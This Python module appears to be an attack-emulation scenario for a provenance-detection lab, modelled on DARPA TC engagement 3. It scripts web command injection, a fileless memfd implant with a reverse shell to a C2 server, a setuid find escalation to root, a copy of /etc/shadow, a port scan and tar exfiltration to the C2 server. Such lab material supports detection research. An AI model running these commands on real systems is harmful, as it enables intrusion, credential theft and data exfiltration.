"""DARPA TC engagement 3 style: web-server backdoor, in-memory implant, dropped binary,
setuid escalation, C2 and a network scan.

Modelled on the engagement-3 campaigns against web servers (the Nginx backdoor leading to
the in-memory "Drakon" implant): the attacker gets a shell through the web server, loads an
implant that never touches the disk, drops a binary with a system-like name, escalates
through a misconfigured setuid program, reads the password hashes and scans the network.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.payloads import memfd_loader, port_scanner_c, reverse_shell_c
from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
from provarmor.lab.scenarios.implants import SCAN_PORTS, drop_dir, fileless_start, scan_targets
from provarmor.lab.scenarios.steps import (
    download,
    exploit_step,
    post_to_c2,
    setuid_copy,
    web_exploit,
)

STEPS = (
    exploit_step(),
    StepSpec(
        name="in-memory-implant",
        summary="A Python loader piped from the C2 server writes an ELF into a memfd and "
        "executes it from memory: a reverse shell back to the C2 server.",
        techniques=(t.PYTHON, t.FILELESS_STORAGE, t.REFLECTIVE_LOADING),
    ),
    StepSpec(
        name="shell-recon",
        summary="Over the raw TCP reverse shell: system, user and process discovery.",
        techniques=(
            t.NON_APPLICATION_PROTOCOL,
            t.NON_STANDARD_PORT,
            t.SYSTEM_INFO,
            t.PROCESS_DISCOVERY,
        ),
    ),
    StepSpec(
        name="drop-binary",
        summary="A scanner binary is downloaded under a system daemon's name and made executable.",
        techniques=(t.INGRESS_TRANSFER, t.MASQUERADE_NAME, t.FILE_PERMISSIONS),
    ),
    StepSpec(
        name="privilege-escalation",
        summary="A setuid-root copy of find runs sh -p; as root the shell copies /etc/shadow.",
        techniques=(t.SETUID, t.SHADOW_FILE),
    ),
    StepSpec(
        name="scan",
        summary="The dropped binary probes the lab hosts' service ports.",
        techniques=(t.SERVICE_SCAN, t.REMOTE_SYSTEMS),
    ),
    StepSpec(
        name="exfiltrate",
        summary="Scan results and hashes are tarred and posted to the C2 server.",
        techniques=(t.ARCHIVE_UTILITY, t.EXFIL_C2),
    ),
)


def plan(ctx: LabContext) -> Plan:
    folder = drop_dir(ctx)
    shell_elf = Payload(
        path=f"{ctx.names.pick(('lib', 'bin', 'pkg'))}/{ctx.names.token(6)}",
        content=reverse_shell_c(address=ctx.c2.address, port=ctx.c2.shell_port, lifetime=120),
        compile=True,
    )
    loader = Payload(
        path=f"{ctx.names.pick(('js', 'static'))}/{ctx.names.token(6)}.js",
        content=memfd_loader(url=ctx.payload_url(shell_elf.path), name=ctx.names.system_like()),
    )
    scanner = Payload(path=f"bin/{ctx.names.token(6)}", content=port_scanner_c(), compile=True)
    binary = f"{folder}/{ctx.names.system_like()}"
    setuid_find = f"/usr/local/bin/{ctx.names.pick(('findx', 'locate-helper', 'ffind'))}"
    targets = " ".join(f"{host}:{port}" for host in scan_targets(ctx) for port in SCAN_PORTS)
    loot = f"{folder}/{ctx.names.token(4)}"
    return Plan(
        setup_commands=setuid_copy("/usr/bin/find", setuid_find),
        payloads=(shell_elf, loader, scanner),
        actions=(
            web_exploit("uname -a; id"),
            Action(
                step="in-memory-implant",
                channel=Channel.WEBSHELL,
                command=fileless_start(ctx.payload_url(loader.path)),
            ),
            Action(
                step="shell-recon",
                channel=Channel.SHELL,
                command="uname -a; id; ps -ef | head -n 25; cat /proc/self/status | head -n 9",
            ),
            Action(
                step="drop-binary",
                channel=Channel.SHELL,
                command=f"{download(ctx, scanner, binary)} && chmod 755 {binary} "
                f"&& ls -la {folder}",
            ),
            Action(
                step="privilege-escalation",
                channel=Channel.SHELL,
                command=f"{setuid_find} {folder} -maxdepth 0 -exec /bin/sh -p -c "
                f"'id; cat /etc/shadow > {loot}.h; chmod 644 {loot}.h' \\;",
            ),
            Action(
                step="scan",
                channel=Channel.SHELL,
                command=f"{binary} 200 {targets} > {loot}.s; cat {loot}.s",
                timeout=40,
            ),
            Action(
                step="exfiltrate",
                channel=Channel.SHELL,
                command=f"tar czf - -C {folder} . | {post_to_c2(ctx, '@-')}",
            ),
        ),
        artifacts=(folder, setuid_find),
    )


SCENARIO = Scenario(
    name="tc-webshell-implant",
    title="Web server backdoor to in-memory implant, setuid escalation and scan (DARPA TC E3)",
    modelled_on="DARPA Transparent Computing engagement 3: web-server backdoor campaigns "
    "(Nginx backdoor, in-memory Drakon implant)",
    description=(
        "The attacker injects a command into the web application, pipes a Python loader "
        "from the C2 server into the interpreter; the loader fetches an ELF into an "
        "anonymous memory file (memfd) and executes it, so the implant (a reverse shell to "
        "the C2 server's non-standard port) never exists on disk. Over that shell the "
        "attacker surveys the host, drops a scanner binary named like a system daemon into "
        "a hidden directory, escalates to root through a setuid-root copy of find, copies "
        "/etc/shadow, scans the lab hosts and posts the tarred results to the C2 server."
    ),
    root_cause=(
        "The web application's ping handler: a shell it started for an attack request "
        "(command injection); the memfd implant and everything after descend from it."
    ),
    steps=STEPS,
    plan=plan,
)
